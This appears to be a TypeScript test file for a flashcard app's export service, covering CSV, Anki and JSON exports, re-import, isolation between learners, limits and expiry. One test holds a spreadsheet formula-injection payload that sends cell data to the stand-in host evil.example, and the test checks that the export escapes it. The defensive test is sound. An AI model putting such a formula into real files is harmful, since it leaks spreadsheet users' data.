@@ -1,0 +1,388 @@
+// Exports through the ExportService, run by the work queue's job as in main.ts (real PostgreSQL, NATS and the
+// S3 stand-in): the learner's chosen cards as CSV, their cards as an Anki package with files, review history
+// and memory state, and everything as JSON with the other services' parts; each downloaded through a link that
+// works until the file expires. Another learner sees none of it, bad requests change nothing, and a learner has at
+// most two exports queued or running.
+import { randomUUID } from 'node:crypto';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { openPackage } from '@engram/anki/open-package';
+import { COMMITTED_WITNESSES } from '@engram/testkit/anki-witnesses';
+import { waitUntil } from '@engram/testkit/wait';
+import { status } from '@grpc/grpc-js';
+import sharp from 'sharp';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { exportedCards } from '../../src/exports/exported-cards.js';
+import { sweepObjects } from '../../src/media/sweeper.js';
+import { type CardsHarness, startCardsHarness } from '../harness.js';
+
+let cards: CardsHarness;
+let dir: string;
+
+beforeAll(async () => {
+  cards = await startCardsHarness();
+  dir = await mkdtemp(join(tmpdir(), 'engram-export-test-'));
+}, 60_000);
+
+afterAll(async () => {
+  await cards?.stop();
+  await rm(dir, { recursive: true, force: true });
+});
+
+const learner = (name: string) => `${name}-${randomUUID().slice(0, 8)}`;
+
+async function finished(userId: string, exportId: string) {
+  let current = await cards.as(userId).getExport({ exportId });
+  await waitUntil(
+    'the export finished',
+    async () => {
+      current = await cards.as(userId).getExport({ exportId });
+      return current.status === 'done' || current.status === 'failed';
+    },
+    20_000,
+  );
+  return current;
+}
+
+async function download(url: string): Promise<Buffer> {
+  const answer = await fetch(url);
+  expect(answer.status).toBe(200);
+  return Buffer.from(await answer.arrayBuffer());
+}
+
+async function tagged(userId: string, front: string, back: string, tagNames: string[]) {
+  const tagIds: string[] = [];
+  for (const name of tagNames) {
+    const existing = (await cards.as(userId).listTags({ pageSize: 100 })).items.find((tag) => tag.name === name);
+    tagIds.push(existing?.id ?? (await cards.as(userId).createTag({ name })).tag!.id);
+  }
+  return (await cards.as(userId).createCard({ front, back, tagIds })).card!;
+}
+
+describe('exporting cards as CSV', () => {
+  it('holds the cards with the chosen tags, downloaded through a link named for the file', async () => {
+    const ann = learner('ann');
+    await tagged(ann, 'hola', 'hello', ['spanish']);
+    await tagged(ann, 'Bonjour, "ami"', 'Hello, friend', ['french']);
+    const french = (await cards.as(ann).listTags({ pageSize: 10 })).items.find((tag) => tag.name === 'french')!;
+    const { exportId } = await cards.as(ann).startExport({ format: 'csv', tagIds: [french.id] });
+    const done = await finished(ann, exportId);
+    expect(done).toMatchObject({ format: 'csv', status: 'done', progressDone: 1, progressTotal: 1 });
+    expect(done.fileName).toMatch(/^engram-cards-\d{4}-\d{2}-\d{2}\.csv$/);
+    expect(done.expiresAt!.getTime()).toBeGreaterThan(Date.now() + 23 * 3_600_000);
+    const answer = await fetch(done.url);
+    expect(answer.headers.get('content-disposition')).toContain(done.fileName);
+    const text = (await answer.text()).replace(/^\uFEFF/, '');
+    expect(text).toBe('front,back,tags,type\r\n"Bonjour, ""ami""","Hello, friend",french,basic\r\n');
+  });
+});
+
+describe('a CSV export opened in a spreadsheet', () => {
+  it('holds a cell a spreadsheet would run as a formula as text, with an apostrophe before it', async () => {
+    const ann = learner('ann');
+    await tagged(ann, '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', '+1 555 0100', ['@home', 'phone']);
+    await tagged(ann, '-5 °C', "'=already marked", ['-cold']);
+    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
+    const done = await finished(ann, exportId);
+    const text = (await (await fetch(done.url)).text()).replace(/^\uFEFF/, '');
+    const rows = text.split('\r\n').slice(1, -1).sort();
+    expect(rows).toEqual([
+      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")",'+1 555 0100,'@home phone,basic`,
+      "'-5 °C,''=already marked,'-cold,basic",
+    ]);
+  });
+
+  it("imports again as the same cards, those beginning with = or - included (Engram's import takes the mark off)", async () => {
+    const ann = learner('ann');
+    const bob = learner('bob');
+    await tagged(ann, '=1+1', '2', ['=maths']);
+    await tagged(ann, '- a list item', "'quoted", ['-negative', 'plain']);
+    await tagged(ann, "'=looks marked", '@noon', ['@place']);
+    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
+    const done = await finished(ann, exportId);
+    const uploadId = await cards.uploadToImport(bob, 'from-ann.csv', await download(done.url));
+    const { importId } = await cards.as(bob).startImport({ uploadId });
+    await waitUntil('the import finished', async () => {
+      const imported = await cards.as(bob).getImport({ importId });
+      return imported.status === 'done' || imported.status === 'failed';
+    });
+    expect(await cards.as(bob).getImport({ importId })).toMatchObject({
+      status: 'done',
+      counts: { cards: 3, skipped: 0 },
+    });
+    const shape = async (userId: string) =>
+      (await cards.list(userId, { pageSize: 100 })).items
+        .map((card) => ({ front: card.front, back: card.back, tags: card.tags.map((tag) => tag.name).sort() }))
+        .sort((a, b) => a.front.localeCompare(b.front));
+    expect(await shape(bob)).toEqual(await shape(ann));
+  });
+});
+
+describe('exporting cards as an Anki package', () => {
+  it('holds the cards with their files, tags as decks and review history', async () => {
+    const ann = learner('ann');
+    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#a33' } })
+      .png()
+      .toBuffer();
+    const image = await cards.keepFile(ann, 'red square.png', 'image/png', png);
+    await tagged(ann, `What colour? ![square](${image.path})`, 'Red', ['Colours::Warm']);
+    const { items } = await cards.as(ann).listDue({});
+    await cards.as(ann).review({ id: items[0]!.id, rating: 'good', reviewId: randomUUID(), durationMs: 4_000 });
+
+    const { exportId } = await cards.as(ann).startExport({ format: 'apkg' });
+    const done = await finished(ann, exportId);
+    expect(done.status).toBe('done');
+    const path = join(dir, `${exportId}.apkg`);
+    await writeFile(path, await download(done.url));
+    const reader = await openPackage(path);
+    try {
+      expect(reader.counts()).toEqual({ notes: 1, cards: 1, revlog: 1 });
+      expect(reader.decks().map((deck) => deck.name)).toContain('Colours::Warm');
+      const [note] = [...reader.notes()].flat();
+      expect(note?.fields[0]).toContain('<img src="red square.png"');
+      expect(reader.media().map((file) => file.name)).toEqual(['red square.png']);
+      const [revlog] = [...reader.revlog()].flat();
+      expect(revlog).toMatchObject({ ease: 3 });
+    } finally {
+      reader.close();
+    }
+  });
+});
+
+describe('an Anki export imported again', () => {
+  it('gives another learner the same cards, tags, files, review history and memory state', async () => {
+    const ann = learner('ann');
+    const bob = learner('bob');
+    const png = await sharp({ create: { width: 6, height: 6, channels: 3, background: '#36c' } })
+      .png()
+      .toBuffer();
+    const image = await cards.keepFile(ann, 'blue.png', 'image/png', png);
+    await tagged(ann, `Which colour? ![blue](${image.path})`, 'Blue', ['Colours::Cold']);
+    const biology = (await cards.as(ann).createTag({ name: 'biology' })).tag!;
+    await cards.as(ann).createCard({
+      front: 'The {{c1::mitochondrion}} makes {{c2::energy}}',
+      back: '',
+      type: 'cloze',
+      tagIds: [biology.id],
+    });
+    await cards.as(ann).createCard({ front: 'gato', back: 'cat', type: 'reversed' });
+    for (const item of (await cards.as(ann).listDue({})).items.slice(0, 3)) {
+      await cards.as(ann).review({ id: item.id, rating: 'good', reviewId: randomUUID(), durationMs: 3_000 });
+    }
+    const { exportId } = await cards.as(ann).startExport({ format: 'apkg' });
+    const done = await finished(ann, exportId);
+
+    const uploadId = await cards.uploadToImport(bob, 'from-ann.apkg', await download(done.url));
+    const { importId } = await cards.as(bob).startImport({ uploadId });
+    let imported = await cards.as(bob).getImport({ importId });
+    await waitUntil(
+      'the import finished',
+      async () => {
+        imported = await cards.as(bob).getImport({ importId });
+        return imported.status === 'done' || imported.status === 'failed';
+      },
+      20_000,
+    );
+    expect(imported).toMatchObject({
+      status: 'done',
+      counts: { notes: 3, cards: 3, reviews: 3, media: 1, skipped: 0 },
+    });
+
+    const shape = async (userId: string) => {
+      const { items } = await cards.list(userId, { pageSize: 100 });
+      return items
+        .map((card) => ({
+          type: card.type,
+          front: card.front.replace(/\/media\/[0-9a-f-]+\//, '/media/<id>/'),
+          back: card.back,
+          tags: card.tags.map((tag) => tag.name).sort(),
+        }))
+        .sort((a, b) => a.front.localeCompare(b.front));
+    };
+    expect(await shape(bob)).toEqual(await shape(ann));
+    const history = async (userId: string) =>
+      (await cards.db.reviewLog.findMany({ where: { ownerId: userId }, orderBy: { reviewedAt: 'asc' } })).map(
+        (log) => ({ rating: log.rating, at: Math.floor(log.reviewedAt.getTime() / 1000) }),
+      );
+    expect(await history(bob)).toEqual(await history(ann));
+    const memory = async (userId: string) =>
+      (await cards.db.reviewItem.findMany({ where: { ownerId: userId, reps: { gt: 0 } } }))
+        .map((item) => Number(item.stability.toFixed(2)))
+        .sort();
+    expect(await memory(bob)).toEqual(await memory(ann));
+    const bobsFile = (await cards.as(bob).listMedia({})).items[0];
+    expect(bobsFile).toMatchObject({ name: 'blue.png', cardCount: 1 });
+  });
+});
+
+describe('a package Anki wrote, imported and exported again', () => {
+  it('puts each card back in its Anki deck, a deck of one level too', async () => {
+    // Written by Anki 2.0 (packages/anki/test/anki-written/SOURCES.md): decks example-test and
+    // example-test::Level1; "TopLevel" is in example-test, a deck no `::` marks as one.
+    const ann = learner('ann');
+    const witness = await readFile(join(COMMITTED_WITNESSES, 'anki-js-example.apkg'));
+    const { importId } = await cards
+      .as(ann)
+      .startImport({ uploadId: await cards.uploadToImport(ann, 'deck.apkg', witness) });
+    await waitUntil(
+      'the import finished',
+      async () => (await cards.as(ann).getImport({ importId })).status === 'done',
+      20_000,
+    );
+    const decks = await cards.db.tag.findMany({ where: { ownerId: ann, ankiDeck: true }, orderBy: { name: 'asc' } });
+    expect(decks.map((tag) => tag.name)).toEqual(['example-test', 'example-test::Level1']);
+
+    const { exportId } = await cards.as(ann).startExport({ format: 'apkg' });
+    const path = join(dir, `${exportId}.apkg`);
+    await writeFile(path, await download((await finished(ann, exportId)).url));
+    const reader = await openPackage(path);
+    try {
+      const deckNames = new Map(reader.decks().map((deck) => [deck.id, deck.name]));
+      const notes = new Map([...reader.notes()].flat().map((note) => [note.id, note.fields[0]]));
+      const placed = [...reader.cards()].flat().map((card) => [notes.get(card.noteId), deckNames.get(card.deckId)]);
+      expect(placed.sort()).toEqual([
+        ['Another', 'example-test::Level1'],
+        ['Test it', 'example-test::Level1'],
+        ['TopLevel', 'example-test'],
+      ]);
+    } finally {
+      reader.close();
+    }
+  });
+});
+
+describe('exporting everything as JSON', () => {
+  it("holds the other services' parts and every card with its reviews, settings, tags and files", async () => {
+    const ann = learner('ann');
+    const card = await tagged(ann, 'Mitochondrion', 'The powerhouse of the cell', ['biology']);
+    const { items } = await cards.as(ann).listDue({});
+    const reviewId = randomUUID();
+    await cards.as(ann).review({ id: items[0]!.id, rating: 'easy', reviewId, durationMs: 2_500 });
+    const identity = { profile: { name: 'Ann', email: 'ann@example.com' }, sessions: [] };
+    const { exportId } = await cards.as(ann).startExport({
+      format: 'json',
+      parts: { identity: JSON.stringify(identity), billing: JSON.stringify({ plan: 'free' }) },
+    });
+    const done = await finished(ann, exportId);
+    expect(done.fileName).toMatch(/^engram-data-.*\.json$/);
+    const data = JSON.parse((await download(done.url)).toString('utf8'));
+    expect(data).toMatchObject({ format: 'engram-export', version: 1, identity, billing: { plan: 'free' } });
+    expect(data.cards.settings).toMatchObject({ desiredRetention: 0.9 });
+    expect(data.cards.tags.map((tag: { name: string }) => tag.name)).toEqual(['biology']);
+    expect(data.cards.cards).toHaveLength(1);
+    expect(data.cards.cards[0]).toMatchObject({
+      id: card.id,
+      front: 'Mitochondrion',
+      tags: ['biology'],
+      reviews: [{ id: reviewId, rating: 4, durationMs: 2_500 }],
+    });
+    expect(data.cards.cards[0].items[0].stability).toBeGreaterThan(0);
+  });
+});
+
+describe("an export's reading of the cards", () => {
+  it("takes the learner's own cards in one pass, and hands its connection back when the export stops early", async () => {
+    const ann = learner('ann');
+    const first = await tagged(ann, 'one', 'uno', ['spanish']);
+    const second = await tagged(ann, 'two', 'dos', []);
+    await tagged(learner('bob'), 'three', 'tres', ['spanish']);
+    const read = [];
+    for await (const page of exportedCards(cards.pool, ann, [])) read.push(...page);
+    expect(read.map((card) => card.front)).toEqual(
+      [first, second].sort((a, b) => a.id.localeCompare(b.id)).map((card) => card.front),
+    );
+    expect(read.find((card) => card.front === 'one')).toMatchObject({ tags: ['spanish'], items: [{ ordinal: 0 }] });
+
+    for await (const _page of exportedCards(cards.pool, ann, [])) break;
+    // Every connection of the pool is idle again, none left inside the export's read-only transaction.
+    expect(cards.pool.idleCount).toBe(cards.pool.totalCount);
+    const clients = await Promise.all(Array.from({ length: cards.pool.idleCount }, () => cards.pool.connect()));
+    try {
+      for (const client of clients) {
+        const { rows } = await client.query("SELECT current_setting('transaction_read_only') AS read_only");
+        expect(rows[0].read_only).toBe('off');
+      }
+    } finally {
+      for (const client of clients) client.release();
+    }
+  });
+});
+
+describe('an export', () => {
+  it("is another learner's to neither see nor aim at their tags", async () => {
+    const ann = learner('ann');
+    const bob = learner('bob');
+    const tag = (await cards.as(ann).createTag({ name: 'private' })).tag!;
+    await expect(cards.as(bob).startExport({ format: 'csv', tagIds: [tag.id] })).rejects.toThrow('Tag not found.');
+    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
+    await expect(cards.as(bob).getExport({ exportId })).rejects.toThrow('Export not found.');
+    expect((await cards.as(bob).listExports({})).items).toEqual([]);
+    expect((await cards.as(ann).listExports({})).items.map((item) => item.id)).toEqual([exportId]);
+  });
+
+  it('is refused, changing nothing, for a format it does not know, tags on a full export, or a part not JSON', async () => {
+    const ann = learner('ann');
+    const tag = (await cards.as(ann).createTag({ name: 'some' })).tag!;
+    await expect(cards.as(ann).startExport({ format: 'pdf' })).rejects.toThrow('The format must be apkg, csv or json.');
+    await expect(cards.as(ann).startExport({ format: 'json', tagIds: [tag.id] })).rejects.toThrow(
+      'A full export holds everything; choose tags for a CSV or Anki export.',
+    );
+    await expect(cards.as(ann).startExport({ format: 'json', parts: { identity: '{not json' } })).rejects.toThrow(
+      'The identity part of the export is not JSON.',
+    );
+    await expect(cards.as(ann).startExport({ format: 'json', parts: { secrets: '{}' } })).rejects.toThrow(
+      'An export part must come from identity, organizations, billing or ai.',
+    );
+    expect((await cards.as(ann).listExports({})).items).toEqual([]);
+  });
+
+  it('is refused, changing nothing, while the learner has two exports queued or running, and taken once one is over', async () => {
+    const ann = learner('ann');
+    await cards.create(ann, 'one card');
+    // Exports another replica makes (their heartbeat fresh): nobody takes them over meanwhile.
+    const making = await Promise.all(
+      [1, 2].map(() =>
+        cards.db.export.create({
+          data: { ownerId: ann, format: 'csv', fileName: 'cards.csv', status: 'running', heartbeatAt: new Date() },
+        }),
+      ),
+    );
+    const refused = await cards
+      .as(ann)
+      .startExport({ format: 'json' })
+      .then(
+        () => undefined,
+        (error: { code: number; reason?: string; message: string }) => error,
+      );
+    expect(refused).toMatchObject({
+      code: status.FAILED_PRECONDITION,
+      reason: 'EXPORTS_BUSY',
+      message:
+        'You already have 2 exports waiting or being made. Wait until one of them is ready, then start this one.',
+    });
+    expect((await cards.as(ann).listExports({})).items).toHaveLength(2);
+    // Another learner's exports are theirs alone.
+    const bob = learner('bob');
+    expect((await finished(bob, (await cards.as(bob).startExport({ format: 'csv' })).exportId)).status).toBe('done');
+    await cards.db.export.update({ where: { id: making[0]!.id }, data: { status: 'failed' } });
+    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
+    // Taken; a learner's exports are made one at a time, so it is made once the other is over.
+    expect((await cards.as(ann).getExport({ exportId })).status).toBe('queued');
+    await cards.db.export.update({ where: { id: making[1]!.id }, data: { status: 'done' } });
+    expect((await finished(ann, exportId)).status).toBe('done');
+  });
+
+  it('expires: its link stops being offered and its file leaves the store', async () => {
+    const ann = learner('ann');
+    await cards.create(ann, 'soon gone');
+    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
+    const done = await finished(ann, exportId);
+    const row = await cards.db.export.findUniqueOrThrow({ where: { id: exportId } });
+    await cards.db.export.update({ where: { id: exportId }, data: { expiresAt: new Date(Date.now() - 1_000) } });
+    expect(await cards.as(ann).getExport({ exportId })).toMatchObject({ status: 'expired', url: '' });
+    await sweepObjects(cards.db, cards.store);
+    expect(await cards.store.headObject(row.objectKey!)).toBeNull();
+    expect((await fetch(done.url)).status).toBe(404);
+  });
+});
